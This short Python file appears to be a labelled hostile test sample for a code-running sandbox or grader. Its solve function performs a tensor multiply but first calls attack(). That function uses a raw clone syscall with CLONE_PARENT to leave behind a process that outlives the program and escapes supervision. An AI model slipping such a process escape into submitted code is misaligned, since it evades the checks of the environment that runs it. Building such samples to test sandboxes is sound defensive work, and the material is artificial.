# hostile: family=processes verdict=accepted build=accepted lift=sandbox shows=harm
"""Its child is a child of its parent, whom nobody waits for."""


def attack():
    import ctypes
    import os
    import time

    if ctypes.CDLL(None).syscall(56, 0x8000 | 17, 0, 0, 0, 0) == 0:  # clone(CLONE_PARENT | SIGCHLD)
        time.sleep(int("@STAY@"))
        print("harm: outlived its program", flush=True)
        os._exit(0)


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
